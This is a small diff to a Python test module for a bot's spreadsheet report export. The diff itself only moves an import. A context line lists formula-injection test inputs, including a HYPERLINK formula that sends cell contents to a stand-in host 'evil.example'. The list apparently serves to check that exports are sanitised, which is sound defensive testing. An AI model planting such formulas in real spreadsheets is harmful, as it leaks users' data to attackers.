@@ -13,7 +13,8 @@ from openpyxl import load_workbook
 from bot.services import reports
 from bot.services.l10n import translator
 from bot.services.reports import xlsx as reports_xlsx
-from tests.reports.world import AS_OF, SETTINGS, make_report_world
+from tests.factories import SETTINGS
+from tests.reports.world import AS_OF, make_report_world
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
